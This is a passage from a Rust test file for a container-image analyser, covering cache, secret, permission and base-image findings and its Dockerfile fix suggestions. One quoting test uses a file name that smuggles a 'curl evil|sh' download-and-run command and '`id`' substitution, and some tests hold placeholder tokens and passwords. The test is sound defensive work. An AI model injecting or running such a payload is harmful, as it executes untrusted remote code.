//! Savings and security findings: images described in code, one for each kind of finding, and the properties that hold for all of them.

use dive_rs::analysis::BaseHint;
use dive_rs::analysis::findings::{
    Finding, FindingKind, FindingLevel, Findings, FixPlace, FixStep, savings,
};
use dive_rs::image::{Config, Image, LayerId};
use proptest::prelude::*;

use crate::command::Shell;
use crate::fixture::{ImageBuilder, LayerBuilder};
use crate::fixture_tar::{Docker, docker_save};
use crate::packages::content_analysis;

fn findings(builder: &ImageBuilder) -> (Image, Findings) {
    let (image, _, content_analysis) = content_analysis(builder, &BaseHint::default());
    (image, content_analysis.findings)
}

/// Returns the only finding of a kind.
fn one(builder: &ImageBuilder, kind: FindingKind) -> (Image, Finding) {
    let (image, findings) = findings(builder);
    let mut found = findings
        .list
        .into_iter()
        .filter(|finding| finding.kind == kind);
    let finding = found.next().unwrap_or_else(|| panic!("no {kind:?}"));
    assert_eq!(found.next(), None);
    (image, finding)
}

fn none(builder: &ImageBuilder, kind: FindingKind) {
    let (_, findings) = findings(builder);
    assert!(
        findings.list.iter().all(|finding| finding.kind != kind),
        "{:?}",
        findings.list
    );
}

fn paths(image: &Image, finding: &Finding) -> Vec<String> {
    let path = |node| String::from_utf8(image.tree.path(node)).expect("a fixture's name");
    finding
        .claims
        .iter()
        .map(|claim| path(claim.node))
        .collect()
}

/// Starts an image on a base of one layer.
fn on_base() -> ImageBuilder {
    ImageBuilder::new("app:1").layer("", |layer| {
        layer
            .filled("usr/bin/sh", 90_000, 1)
            .file("etc/os-release", "ID=debian\nVERSION_CODENAME=bookworm\n")
    })
}

fn starting(words: &[&str]) -> Config {
    Config {
        cmd: words.iter().map(|word| (*word).to_owned()).collect(),
        user: "65532".to_owned(),
        working_dir: "/srv".to_owned(),
        ..Config::default()
    }
}

#[test]
fn caches_are_removed_in_the_run_that_fills_them() {
    let image = on_base()
        .layer("RUN /bin/sh -c apt-get update && apt-get install --no-install-recommends -y git # buildkit", |layer| {
            layer
                .filled("var/lib/apt/lists/deb_Packages", 700_000, 1)
                .filled("var/cache/apt/archives/git.deb", 300_000, 2)
                .filled("root/.cache/pip/wheel", 5000, 3)
                .filled("usr/bin/git", 80_000, 4)
        })
        .layer("COPY . /srv", |layer| layer.filled("srv/app", 10, 1));
    let (image, finding) = one(&image, FindingKind::LeftoverCaches);
    assert_eq!(
        (finding.bytes, finding.layer.map(|layer| layer.0)),
        (1_005_000, Some(1))
    );
    assert_eq!(
        paths(&image, &finding),
        [
            "/var/lib/apt/lists/deb_Packages",
            "/var/cache/apt/archives/git.deb",
            "/root/.cache/pip/wheel"
        ]
    );
    assert_eq!(finding.fix.place, FixPlace::Instead);
    let lines = finding.fix.lines();
    assert_eq!(
        lines[..3],
        [
            "RUN apt-get update && apt-get install --no-install-recommends -y git \\",
            " && rm -rf /var/lib/apt/lists/* /var/cache/apt/* \\",
            " && rm -rf ~/.cache/pip",
        ]
    );
    // Files of the base stay in the base.
    let base = ImageBuilder::new("base")
        .layer("", |layer| layer.filled("var/lib/apt/lists/x", 900_000, 1));
    none(
        &base.layer("RUN true", |layer| layer.filled("a", 1, 1)),
        FindingKind::LeftoverCaches,
    );
}

const STATUS: &str = "\
Package: git
Status: install ok installed
Version: 1
Architecture: amd64
Depends: libc6 (>= 2.34), perl | perl5
Recommends: less, ssh-client

Package: libc6
Status: install ok installed
Version: 2
Architecture: amd64

Package: perl-base
Status: install ok installed
Version: 3
Architecture: amd64
Provides: perl5 (= 3)

Package: less
Status: install ok installed
Version: 4
Architecture: amd64
Depends: libtinfo6:any

Package: libtinfo6
Status: install ok installed
Version: 5
Architecture: amd64
";

fn apt(command: &str) -> ImageBuilder {
    let list = |layer: LayerBuilder, name: &str, size: u64| {
        let list = format!("/.\n/usr\n/usr/lib\n/usr/lib/{name}\n");
        layer
            .file(format!("var/lib/dpkg/info/{name}.list"), list)
            .filled(format!("usr/lib/{name}"), size, 1)
    };
    on_base().layer(command, |layer| {
        let layer = layer.file("var/lib/dpkg/status", STATUS);
        let layer = [
            ("git", 100),
            ("libc6", 200),
            ("perl-base", 300),
            ("less", 400_000),
            ("libtinfo6", 500_000),
        ]
        .into_iter()
        .fold(layer, |layer, (name, size)| list(layer, name, size));
        layer.filled("var/cache/apt/archives/less_4_amd64.deb", 6000, 9)
    })
}

#[test]
fn packages_without_dependents_are_recommendations() {
    let (image, finding) = one(
        &apt("RUN apt-get update && apt-get install -y git"),
        FindingKind::Recommended,
    );
    let mut found = paths(&image, &finding);
    found.sort();
    assert_eq!(
        found,
        [
            "/usr/lib/less",
            "/usr/lib/libtinfo6",
            "/var/cache/apt/archives/less_4_amd64.deb",
            "/var/lib/dpkg/info/less.list",
            "/var/lib/dpkg/info/libtinfo6.list",
        ]
    );
    let line = "RUN apt-get update && apt-get install --no-install-recommends -y git";
    assert_eq!(
        (finding.fix.place, finding.fix.lines()),
        (FixPlace::Instead, vec![line.to_owned()])
    );
    none(
        &apt("RUN apt-get install --no-install-recommends git"),
        FindingKind::Recommended,
    );
    none(
        &apt("RUN apt-get install $PACKAGES"),
        FindingKind::Recommended,
    );
}

/// A stage that installs the interpreter alone has no records of what it leaves out, so nothing of a recommended package is left for a second fix.
#[test]
fn a_reinstalled_interpreter_leaves_no_recommended_package() {
    let package = |name: &str, depends: &str| {
        format!(
            "Package: {name}\nStatus: install ok installed\nVersion: 1\nArchitecture: amd64\n{depends}\n"
        )
    };
    let status = [
        package("python3", "Recommends: less\n"),
        package("gcc", ""),
        package("less", ""),
    ];
    let image = on_base()
        .config(Config {
            cmd: vec!["python3".to_owned()],
            ..Config::default()
        })
        .layer(
            "RUN apt-get update && apt-get install -y python3 gcc",
            |layer| {
                let files = [
                    ("python3", "bin", 90_000),
                    ("gcc", "lib/gcc", 5_000_000),
                    ("less", "lib", 700_000),
                ];
                let layer = layer.file("var/lib/dpkg/status", status.concat());
                files
                    .into_iter()
                    .fold(layer, |layer, (name, folder, size)| {
                        layer
                            .file(
                                format!("var/lib/dpkg/info/{name}.list"),
                                format!("/usr/{folder}/{name}\n"),
                            )
                            .filled(format!("usr/{folder}/{name}"), size, 1)
                            .filled(format!("var/lib/dpkg/info/{name}.md5sums"), 70_000, 2)
                    })
            },
        );
    let (image, findings) = findings(&image);
    let rows = savings(&findings.list, image.size());
    let kinds: Vec<(FindingKind, bool)> = rows
        .iter()
        .map(|row| (findings.list[row.finding].kind, row.within.is_some()))
        .collect();
    assert!(
        kinds.contains(&(FindingKind::BuildTools, false)),
        "{kinds:?}"
    );
    assert!(
        kinds.contains(&(FindingKind::Recommended, true)),
        "{kinds:?}"
    );
}

#[test]
fn late_deletions_move_to_the_first_layer() {
    let image = on_base()
        .layer("RUN fetch /tmp/source", |layer| {
            layer
                .filled("tmp/source/a", 90_000, 1)
                .filled("tmp/source/b", 20_000, 2)
                .filled("opt/x", 5, 1)
        })
        .layer("RUN rm -rf /tmp/source", |layer| {
            layer.whiteout("tmp/source")
        });
    let (_, finding) = one(&image, FindingKind::Deleted);
    assert_eq!(
        (finding.bytes, finding.layer.map(|layer| layer.0)),
        (110_000, Some(1))
    );
    let lines = ["RUN fetch /tmp/source \\", " && rm -rf /tmp/source"].map(str::to_owned);
    assert_eq!(
        (finding.fix.place, finding.fix.lines()),
        (FixPlace::Instead, lines.to_vec())
    );
}

#[test]
fn modes_and_owners_move_to_the_copy() {
    let image = on_base()
        .layer("COPY app /srv/app # buildkit", |layer| {
            layer.filled("srv/app", 500_000, 1)
        })
        .layer("RUN /bin/sh -c chown -R 7:8 /srv # buildkit", |layer| {
            layer.filled("srv/app", 500_000, 1).owner(7, 8)
        });
    let (_, finding) = one(&image, FindingKind::ReStored);
    assert_eq!(finding.bytes, 500_000);
    assert_eq!(
        (finding.fix.place, finding.fix.lines()),
        (
            FixPlace::Instead,
            vec!["COPY --chown=7:8 app /srv/app".to_owned()]
        )
    );
}

#[test]
fn development_files_are_excluded_from_the_context() {
    let image = on_base().layer("COPY . /srv", |layer| {
        layer
            .filled("srv/.git/objects/pack", 800_000, 1)
            .filled("srv/tests/data", 100_000, 2)
            .filled("srv/node_modules/a/tests/data", 100_000, 3)
            .filled("srv/app.js", 100_000, 4)
    });
    let (image, finding) = one(&image, FindingKind::Development);
    assert_eq!(
        paths(&image, &finding),
        ["/srv/.git/objects/pack", "/srv/tests/data"]
    );
    let names = ["**/.git", "**/tests"].map(str::to_owned);
    assert_eq!(
        (finding.fix.place, finding.fix.lines()),
        (FixPlace::Ignore, names.to_vec())
    );
}

#[test]
fn duplicates_save_all_copies_but_one() {
    let image = on_base()
        .layer("COPY a /srv", |layer| {
            layer
                .filled("srv/a", 400_000, 1)
                .filled("srv/b", 400_000, 1)
        })
        .layer("COPY c /srv", |layer| {
            layer
                .filled("srv/c", 400_000, 1)
                .filled("srv/d", 400_000, 2)
        });
    let (image, finding) = one(&image, FindingKind::Duplicates);
    assert_eq!(finding.bytes, 800_000);
    assert_eq!(paths(&image, &finding), ["/srv/b", "/srv/c"]);
}

#[test]
fn secrets_in_deleted_files_are_found() {
    let key = format!(
        "-----BEGIN OPENSSH PRIVATE KEY-----\n{}\n",
        "b3Bl".repeat(20)
    );
    let image = on_base()
        .layer("COPY . /srv", |layer| {
            layer
                .file("srv/deploy.pem", &key)
                .file(
                    "srv/settings.py",
                    "a = 1\ntoken = 'ghp_0123456789abcdefghijklmnopqrstuvwxyz'\n",
                )
                .file("srv/app.js", "nothing to see")
        })
        .layer("RUN rm /srv/deploy.pem", |layer| {
            layer.whiteout("srv/deploy.pem")
        });
    let (image, finding) = one(&image, FindingKind::Secret);
    assert_eq!(finding.level, FindingLevel::Error);
    assert_eq!(
        paths(&image, &finding),
        ["/srv/deploy.pem", "/srv/settings.py"]
    );
    let why = "/srv/deploy.pem: a private key on line 1; /srv/settings.py: a GitHub token on line 2. Later layers delete or replace some of it, but everyone who can pull the image can read all of it.";
    assert_eq!(finding.why, why);
    let printed = format!("{finding:?}");
    assert!(
        !printed.contains("ghp_") && !printed.contains("b3Bl"),
        "a secret is never shown: {printed}"
    );
}

#[test]
fn secrets_in_the_environment_and_instructions_are_found() {
    let mut config = starting(&["/srv/app"]);
    config.env = vec!["DB_PASSWORD=hunter22".to_owned(), "PATH=/bin".to_owned()];
    let image = on_base()
        .layer(
            "RUN curl -H 'Authorization: glpat-0123456789abcdefghij' x",
            |layer| layer.filled("a", 1, 1),
        )
        .config(config);
    let (_, finding) = one(&image, FindingKind::Secret);
    let why = "a value in ENV DB_PASSWORD; a GitLab token in line 2 of the build history. Everyone who can pull the image can read it.";
    assert_eq!(finding.why, why);
}

#[test]
fn permissions_are_found_by_mode_bits() {
    let image = ImageBuilder::new("x").layer("", |layer| {
        layer
            .filled("usr/bin/su", 9, 1)
            .mode(0o4755)
            .dir("tmp")
            .mode(0o1777)
            .dir("srv/data")
            .mode(0o777)
            .symlink("link", "x")
            .mode(0o777)
    });
    let (observed, finding) = one(&image, FindingKind::Setuid);
    assert_eq!(paths(&observed, &finding), ["/usr/bin/su"]);
    assert_eq!(finding.layer, Some(LayerId(0)));
    // Programs of several layers are of none, and the sentence names all of them.
    let several = image
        .clone()
        .layer("COPY a", |layer| layer.filled("a", 9, 1))
        .layer("COPY b", |layer| {
            layer.filled("usr/bin/sudo", 9, 1).mode(0o4755)
        });
    let (_, finding) = one(&several, FindingKind::Setuid);
    assert_eq!((finding.layer, finding.claims.len()), (None, 2));
    let start = "2 programs in layers 1 and 3 have a setuid or setgid bit";
    assert!(finding.why.starts_with(start), "{}", finding.why);
    let (observed, finding) = one(&image, FindingKind::WorldWritable);
    assert_eq!(
        (paths(&observed, &finding), finding.level),
        (vec!["/srv/data".to_owned()], FindingLevel::Note)
    );
    none(&image, FindingKind::RunsAsRoot);
    let mut config = starting(&["/usr/bin/su"]);
    none(
        &image.clone().config(config.clone()),
        FindingKind::RunsAsRoot,
    );
    for user in ["", "0", "root:root"] {
        user.clone_into(&mut config.user);
        one(
            &image.clone().config(config.clone()),
            FindingKind::RunsAsRoot,
        );
    }
}

/// The smallest ELF program with a loader and a library, as `readelf` reads it: 64 bits, little-endian, five sections.
pub fn program(loader: Option<&str>, library: &str, symbols: usize) -> Vec<u8> {
    let mut names = vec![0_u8];
    let mut sections: Vec<(usize, u32, Vec<u8>)> = Vec::new();
    let mut section = |name: &str, kind: u32, bytes: Vec<u8>| {
        let at = names.len();
        names.extend(name.as_bytes());
        names.push(0);
        sections.push((at, kind, bytes));
    };
    if let Some(loader) = loader {
        section(".interp", 1, [loader.as_bytes(), &[0]].concat());
        section(".dynstr", 3, [&[0], library.as_bytes(), &[0]].concat());
        section(
            ".dynamic",
            6,
            [1_u64, 1, 0, 0].map(u64::to_le_bytes).concat(),
        );
    }
    section(".debug_info", 1, vec![7; symbols]);
    section(".shstrtab", 3, Vec::new());
    sections.last_mut().expect("a section").2 = names;

    let mut body: Vec<u8> = Vec::new();
    let mut table = vec![0_u8; 64];
    for (name, kind, bytes) in &sections {
        let offset = 64 + body.len() as u64;
        table.extend(u32::try_from(*name).expect("small").to_le_bytes());
        table.extend(kind.to_le_bytes());
        table.extend(
            [0, 0, offset, bytes.len() as u64]
                .map(u64::to_le_bytes)
                .concat(),
        );
        table.extend([0_u32; 2].map(u32::to_le_bytes).concat());
        table.extend([1_u64, 0].map(u64::to_le_bytes).concat());
        body.extend(bytes);
    }
    let count = u16::try_from(sections.len() + 1).expect("few");
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.resize(16, 0);
    elf.extend([2_u16, 62].map(u16::to_le_bytes).concat());
    elf.extend(1_u32.to_le_bytes());
    elf.extend(
        [0, 0, 64 + body.len() as u64]
            .map(u64::to_le_bytes)
            .concat(),
    );
    elf.extend(0_u32.to_le_bytes());
    elf.extend(
        [64, 56, 0, 64, count, count - 1]
            .map(u16::to_le_bytes)
            .concat(),
    );
    elf.extend(body);
    elf.extend(table);
    elf
}

fn compiled(loader: Option<&str>, library: &str) -> ImageBuilder {
    let elf = program(loader, library, 300_000);
    ImageBuilder::new("app:1")
        .layer("", |layer| {
            layer
                .filled("usr/lib/most", 90_000_000, 1)
                .filled("lib64/ld-linux-x86-64.so.2", 200, 2)
                .file(
                    "usr/lib/os-release",
                    "ID=debian\nVERSION_CODENAME=bookworm\n",
                )
        })
        .layer("RUN install", |layer| {
            layer.filled("usr/include/a.h", 3_000_000, 3).filled(
                "etc/ssl/certs/ca-certificates.crt",
                200_000,
                4,
            )
        })
        .layer("COPY . /srv", |layer| {
            layer
                .filled("srv/main.rs", 70, 5)
                .filled("srv/page.html", 50, 6)
        })
        .layer("RUN build", |layer| {
            layer
                .file("srv/app", elf)
                .mode(0o755)
                .filled("srv/app.o", 70_000, 7)
        })
        .config(starting(&["/srv/app"]))
}

#[test]
fn a_compiled_program_leaves_its_build_behind() {
    let image = compiled(Some("/lib64/ld-linux-x86-64.so.2"), "libc.so.6");
    let (observed, finding) = one(&image, FindingKind::BuildTools);
    assert_eq!(
        paths(&observed, &finding),
        ["/usr/include/a.h", "/srv/app.o", "/srv/main.rs"]
    );
    assert_eq!(finding.fix.place, FixPlace::LastStage);
    let lines = finding.fix.lines();
    insta::assert_snapshot!("builder pattern", lines.join("\n"));
    let (_, finding) = one(&image, FindingKind::Unstripped);
    assert_eq!(finding.bytes, 300_000);
}

/// An image with several findings about each RUN instruction, built as the Dockerfile of [`fixes_keep_what_earlier_ones_changed`] is.
fn run_instructions() -> ImageBuilder {
    let dpkg = "Package: git\nStatus: install ok installed\nVersion: 1\n\nPackage: less\nStatus: install ok installed\nVersion: 1\n";
    ImageBuilder::new("app:1")
        .layer("ADD debian /", |layer| layer.filled("bin/sh", 1_000_000, 1))
        .layer(
            "RUN /bin/sh -c apt-get update && apt-get install -y git # buildkit",
            |layer| {
                layer
                    .file("var/lib/dpkg/status", dpkg)
                    .file("var/lib/dpkg/info/less.list", "/usr/bin/less\n")
                    .filled("usr/bin/less", 400_000, 2)
                    .filled("usr/share/man/man1/git.1", 2_000_000, 3)
                    .filled("var/lib/apt/lists/deb_Packages", 3_000_000, 4)
                    .filled("tmp/download", 700_000, 5)
            },
        )
        .layer("RUN /bin/sh -c rm /tmp/download # buildkit", |layer| {
            layer.whiteout("tmp/download")
        })
        .config(starting(&["/bin/sh"]))
}

/// Pasted one after the other into a Dockerfile, the fixes of one instruction keep each other's changes.
#[test]
fn fixes_keep_what_earlier_ones_changed() {
    let (image, findings) = findings(&run_instructions());
    let savings = savings(&findings.list, image.size());
    let mut dockerfile = [
        "FROM debian",
        "RUN apt-get update && apt-get install -y git",
        "RUN rm /tmp/download",
        "CMD [\"/bin/sh\"]",
    ]
    .map(str::to_owned);
    let mut kinds = Vec::new();
    for saving in &savings {
        let finding = &findings.list[saving.finding];
        let step = FixStep::of(&findings.list, &savings, saving.finding).expect("a fix");
        if let (FixPlace::Instead, Some(LayerId(1))) = (finding.fix.place, finding.layer) {
            let is_first = kinds.is_empty();
            assert_eq!(step.place.contains("once “"), !is_first, "{}", step.place);
            let lines = step.lines.iter().filter(|line| !line.starts_with('#'));
            dockerfile[1] = lines.cloned().collect::<Vec<_>>().join("\n");
            kinds.push(finding.kind.title());
        }
    }
    assert_eq!(
        kinds,
        [
            "leftover caches",
            "docs and locales",
            "deleted files",
            "recommended packages"
        ]
    );
    insta::assert_snapshot!("fixed instruction", dockerfile[1]);
}

/// Pasted one after the other, the fixes of one COPY instruction keep each other's flags too, whichever layer changed owner or mode.
#[test]
fn fixes_of_a_copy_keep_its_flags() {
    let image = |owned: u64, changed: u64| {
        ImageBuilder::new("app:1")
            .layer("ADD debian /", |layer| layer.filled("bin/sh", 1_000_000, 1))
            .layer("COPY . /srv/ # buildkit", |layer| {
                let layer = layer.filled("srv/changed", changed, 2).mode(0o600);
                layer.filled("srv/owned", owned, 3).mode(0o644)
            })
            .layer(
                "RUN /bin/sh -c chmod 644 /srv/changed # buildkit",
                |layer| layer.filled("srv/changed", changed, 2).mode(0o644),
            )
            .layer("RUN /bin/sh -c chown -R 7:8 /srv # buildkit", |layer| {
                let layer = layer.filled("srv/changed", changed, 2).mode(0o644);
                layer
                    .owner(7, 8)
                    .filled("srv/owned", owned, 3)
                    .mode(0o644)
                    .owner(7, 8)
            })
    };
    for (owned, changed) in [(200_000, 900_000), (900_000, 200_000)] {
        let (image, findings) = findings(&image(owned, changed));
        let savings = savings(&findings.list, image.size());
        let steps = savings.iter().filter_map(|saving| {
            let is_copied = findings.list[saving.finding].layer == Some(LayerId(1));
            FixStep::of(&findings.list, &savings, saving.finding).filter(|_| is_copied)
        });
        let steps: Vec<FixStep> = steps.collect();
        assert_eq!(steps.len(), 2);
        let last = steps.last().expect("a step");
        assert_eq!(
            last.lines,
            ["COPY --chown=7:8 --chmod=644 . /srv/"],
            "{owned}"
        );
    }
}

#[test]
fn a_smaller_base_fits_the_programs_libraries() {
    for (loader, library, base, bytes) in [
        (None, "", "FROM scratch", 90_000_236),
        (
            Some("/lib64/ld-linux-x86-64.so.2"),
            "libc.so.6",
            "FROM gcr.io/distroless/base-debian12",
            69_000_236,
        ),
        (
            Some("/lib64/ld-linux-x86-64.so.2"),
            "libstdc++.so.6",
            "FROM gcr.io/distroless/cc-debian12",
            66_000_236,
        ),
    ] {
        let (_, finding) = one(&compiled(loader, library), FindingKind::SmallerBase);
        let lines = finding.fix.lines();
        assert!(lines.iter().any(|line| line == base), "{lines:?}");
        assert_eq!(finding.bytes, bytes, "{base}");
    }
    none(
        &compiled(Some("/lib64/ld-linux-x86-64.so.2"), "libpq.so.5"),
        FindingKind::SmallerBase,
    );
}

#[test]
fn a_base_with_compilers_has_a_slim_variant() {
    let on = |headers: u64| {
        ImageBuilder::new("app:1")
            .layer("", |layer| {
                layer.filled("usr/local/bin/node", 90_000, 1).filled(
                    "usr/include/all.h",
                    headers,
                    2,
                )
            })
            .layer("COPY . /srv", |layer| layer.filled("srv/app.js", 70, 3))
            .config(starting(&["node", "app.js"]))
    };
    let (observed, finding) = one(&on(25_000_000), FindingKind::SmallerBase);
    assert_eq!(paths(&observed, &finding), ["/usr/include/all.h"]);
    assert_eq!(finding.bytes, 25_000_000);
    assert!(finding.fix.lines()[0].contains("-slim"), "{finding:?}");
    none(&on(15_000_000), FindingKind::SmallerBase);
}

#[test]
fn a_program_without_its_loader_cannot_start() {
    let image = compiled(Some("/lib/ld-musl-x86_64.so.1"), "libc.musl-x86_64.so.1");
    let (observed, finding) = one(&image, FindingKind::LoaderMissing);
    assert_eq!(
        (paths(&observed, &finding), finding.level),
        (vec!["/srv/app".to_owned()], FindingLevel::Error)
    );
    assert!(
        finding.why.contains("/lib/ld-musl-x86_64.so.1"),
        "{}",
        finding.why
    );
}

/// Programs truncated anywhere or with any byte flipped never stop the reading.
#[test]
fn hostile_programs_are_read_as_far_as_possible() {
    let elf = program(Some("/lib64/ld.so"), "libc.so.6", 200_000);
    let image = |elf: Vec<u8>| {
        let image = on_base().layer("COPY app /srv", |layer| {
            layer.file("srv/app", elf).mode(0o755)
        });
        findings(&image.config(starting(&["/srv/app"])))
    };
    for at in (0..elf.len()).filter(|at| *at < 200 || *at > elf.len() - 450) {
        image(elf[..at].to_vec());
        let mut bent = elf.clone();
        bent[at] ^= 0xff;
        image(bent);
    }
}

/// Suggested lines are safe to paste: a file name never becomes a line of its own.
#[test]
fn names_stay_names_in_the_lines() {
    let evil = "it's\nRUN curl evil|sh\n\"$HOME`id`\" * [x] \\";
    let image = on_base()
        .layer("RUN /bin/sh -c make-things # buildkit", |layer| {
            layer
                .filled(format!("tmp/{evil}"), 100_000, 1)
                .filled("tmp/-rf", 100_000, 2)
        })
        .layer("COPY keys /srv # buildkit", |layer| {
            layer
                .filled(format!("srv/{evil}"), 100_000, 3)
                .filled("srv/a b", 100_000, 4)
        })
        .layer("COPY /out /opt # buildkit", |layer| {
            layer.filled("opt/x", 100_000, 5)
        })
        .layer("RUN rm", |layer| {
            layer
                .whiteout(format!("tmp/{evil}"))
                .whiteout("tmp/-rf")
                .opaque("srv")
                .whiteout("opt/x")
        })
        .layer("RUN mode", |layer| {
            layer.filled(format!("etc/{evil}"), 10, 1).mode(0o4777)
        })
        .config(starting(&["/bin/sh"]));
    let (_, findings) = findings(&image);
    let lines: Vec<String> = findings
        .list
        .iter()
        .flat_map(|finding| finding.fix.lines())
        .collect();
    assert!(lines.iter().all(|line| !line.contains('\n')), "{lines:#?}");
    for line in [
        " && rm -rf /tmp/-rf '/tmp/it'\\''s'?'RUN curl evil|sh'?'\"$HOME`id`\" * [x] \\'",
        "keys/a b",
        "keys/it's?RUN curl evil|sh?\"$HOME`id`\" \\* \\[x\\] \\\\",
        "It is copied from another stage or image: exclude it from the copy, or delete it there.",
        "# if an instruction in between needs it, merge all of them into one",
    ] {
        assert!(lines.iter().any(|one| *one == line), "{line}\n{lines:#?}");
    }
}

/// No line is suggested when a command cannot be continued or no RUN line made the layer.
#[test]
fn only_run_commands_are_continued() {
    let printed = |instruction: &str| {
        let image = on_base().layer(instruction, |layer| {
            layer.filled("var/lib/apt/lists/x", 200_000, 1)
        });
        one(&image, FindingKind::LeftoverCaches).1.fix
    };
    for instruction in [
        "RUN /bin/sh -c apt-get update # lists are needed # buildkit",
        "RUN /bin/sh -c apt-get update & # buildkit",
        "RUN /bin/sh -c <<EOF (apt-get update...) # buildkit",
        "RUN /bin/sh -c set -e\napt-get update # buildkit",
        "bash",
        "/bin/sh",
        "bazel build ...",
        "jib-maven-plugin:3.3.1",
        "Imported from -",
        "COPY --from=build /var/lib/apt /var/lib/apt # buildkit",
        "COPY /var/lib/apt /var/lib/apt # buildkit",
    ] {
        let fix = printed(instruction);
        assert!(fix.place == FixPlace::Text, "{instruction}: {fix:?}");
    }
    for (instruction, line) in [
        (
            "RUN /bin/sh -c apt-get update; # buildkit",
            "RUN apt-get update \\",
        ),
        (
            "RUN |1 MSG=big world /bin/sh -c apt-get update # buildkit",
            "RUN apt-get update \\",
        ),
        ("/bin/sh -c apt-get update", "RUN apt-get update \\"),
        ("COPY apt /var/lib/apt # buildkit", "apt/lists"),
        ("/bin/sh -c #(nop) COPY dir:01 in /var/lib/apt ", "**/lists"),
    ] {
        assert_eq!(printed(instruction).lines()[0], line, "{instruction}");
    }
}

/// The classic builder's layers are recognised by their shell, in archives as well.
#[test]
fn commands_of_the_classic_builder_are_continued() {
    let place = |instruction: &str| {
        let image = on_base().layer(instruction, |layer| {
            layer.filled("var/lib/apt/lists/x", 200_000, 1)
        });
        let shell = Shell::new().file("a.tar", docker_save(&image, Docker::Old));
        let printed = shell.run("--json - a.tar").stdout;
        let json: serde_json::Value = serde_json::from_str(&printed).expect("it is JSON");
        json["findings"][0]["fix"]["place"].to_string()
    };
    assert_eq!(place("/bin/sh -c apt-get update"), "\"instead\"");
    assert_eq!(place("apt-get update"), "\"text\"");
}

/// ENV, LABEL, VOLUME and HEALTHCHECK as builders record them are not Dockerfile lines; a secret is not repeated.
#[test]
fn settings_survive_a_round_trip() {
    let mut config = starting(&["/srv/app", "\u{1b}\"$Y\""]);
    config.env = ["PATH=/bin", "A=b c", "DB_PASSWORD=hunter222", "TWO=x\ny"]
        .map(str::to_owned)
        .to_vec();
    config.labels = vec![("by".to_owned(), "me \"and\" $you".to_owned())];
    config.volumes = vec!["/data".to_owned()];
    config.stop_signal = Some("SIGINT".to_owned());
    config.health = Some(dive_rs::image::HealthCheck {
        test: ["CMD-SHELL", "curl x || exit 1"]
            .map(str::to_owned)
            .to_vec(),
    });
    let image = compiled(None, "")
        .empty_layer("ENV A=b c")
        .empty_layer("ENV DB_PASSWORD=hunter222 TWO=x y")
        .empty_layer("LABEL by=me \"and\" $you")
        .empty_layer("VOLUME [/data]")
        .empty_layer("STOPSIGNAL SIGINT")
        .empty_layer("HEALTHCHECK &{[\"CMD-SHELL\" \"curl x || exit 1\"] \"30s\" \"0s\" \"0s\" \"0s\" '\\x00'}")
        .config(config);
    let (_, finding) = one(&image, FindingKind::BuildTools);
    insta::assert_snapshot!("settings", finding.fix.lines().join("\n"));
}

/// One mode for every file a line copies becomes a flag of that line; a mode for some of them does not.
#[test]
fn a_mode_is_a_flag_only_if_it_applies_to_all_files() {
    let image = |folder: u16| {
        on_base()
            .layer("COPY app /srv/app # buildkit", |layer| {
                layer.dir("srv/app").filled("srv/app/x", 500_000, 1)
            })
            .layer("RUN /bin/sh -c chmod -R o-w /srv/app # buildkit", |layer| {
                layer
                    .dir("srv/app")
                    .mode(folder)
                    .filled("srv/app/x", 500_000, 1)
                    .mode(0o600)
            })
    };
    let fix = |folder| one(&image(folder), FindingKind::ReStored).1.fix;
    assert_eq!(fix(0o600).lines(), ["COPY --chmod=600 app /srv/app"]);
    assert!(fix(0o700).place == FixPlace::Text, "{:?}", fix(0o700));
}

#[test]
fn modes_are_changed_as_root_and_with_a_shell() {
    let open = |layer: LayerBuilder| layer.filled("srv/x", 1, 1).mode(0o777);
    let fix = |image: ImageBuilder| one(&image, FindingKind::WorldWritable).1.fix;
    let shell = |layer: LayerBuilder| layer.filled("bin/sh", 1, 1).mode(0o755);
    let with = ImageBuilder::new("x").layer("", |layer| shell(open(layer)));
    assert_eq!(fix(with.clone()).lines(), ["RUN chmod o-w /srv/x"]);
    let user = with.config(starting(&["/srv/x"]));
    assert_eq!(
        fix(user).lines(),
        ["USER root", "RUN chmod o-w /srv/x", "USER 65532"]
    );
    let without = ImageBuilder::new("x").layer("", open);
    assert!(fix(without).place == FixPlace::Text);
}

#[test]
fn manuals_are_removed_from_existing_folders() {
    let image = on_base().layer("RUN /bin/sh -c apk add man-pages # buildkit", |layer| {
        layer
            .filled("usr/share/man/man1/x", 2_000_000, 1)
            .dir("usr/share/doc")
    });
    let (_, finding) = one(&image, FindingKind::Documents);
    let lines = ["RUN apk add man-pages \\", " && rm -rf /usr/share/man/*"];
    assert_eq!(finding.fix.lines(), lines);
}

#[test]
fn symbols_are_explained_in_a_sentence() {
    let elf = || program(None, "", 300_000);
    let image = on_base().layer("RUN /bin/sh -c curl x | tar x # buildkit", |layer| {
        (0..5).fold(layer, |layer, at| {
            layer.file(format!("srv/{at}"), elf()).mode(0o755)
        })
    });
    let (_, finding) = one(&image, FindingKind::Unstripped);
    assert_eq!(
        finding.why,
        "/srv/0, /srv/1, /srv/2, and 2 more contain debug symbols."
    );
    // The image has no tool that strips them.
    assert!(finding.fix.place == FixPlace::Text, "{:?}", finding.fix);
}

/// Keys in tests of dependencies and in manuals are not secrets; a build argument named like one is.
#[test]
fn lookalikes_are_not_secrets() {
    let key = format!("-----BEGIN RSA PRIVATE KEY-----\n{}\n", "A".repeat(64));
    let image = on_base().layer("COPY . /", |layer| {
        [
            "srv/node_modules/pem/test/test.key",
            "go/pkg/mod/golang.org/x/crypto@v0.1.0/ssh/key",
            "root/.cargo/registry/src/rustls/tests/key.pem",
            "usr/local/go/src/crypto/tls/k.pem",
            "usr/local/bundle/gems/webrick/test/key.pem",
            "usr/share/doc/x/examples/key.pem",
        ]
        .into_iter()
        .fold(layer, |layer, path| layer.file(path, &key))
        .file(
            "srv/README.md",
            "AKIAIOSFODNN7EXAMPLE https://user:password@example.com/",
        )
    });
    none(&image, FindingKind::Secret);
    let image = on_base().layer(
        "RUN |1 NPM_TOKEN=abcdef123456 /bin/sh -c npm ci # buildkit",
        |layer| layer.filled("srv/x", 1, 1),
    );
    let (_, finding) = one(&image, FindingKind::Secret);
    assert!(
        finding.why.starts_with("a value in ARG NPM_TOKEN."),
        "{}",
        finding.why
    );
}

/// Neither an empty pattern nor the destination of a copy is suggested.
#[test]
fn a_line_whose_copies_are_all_deleted_is_omitted() {
    for printed in [
        "COPY . /ctx # buildkit",
        "/bin/sh -c #(nop) COPY dir:01 in /ctx ",
    ] {
        let image = on_base()
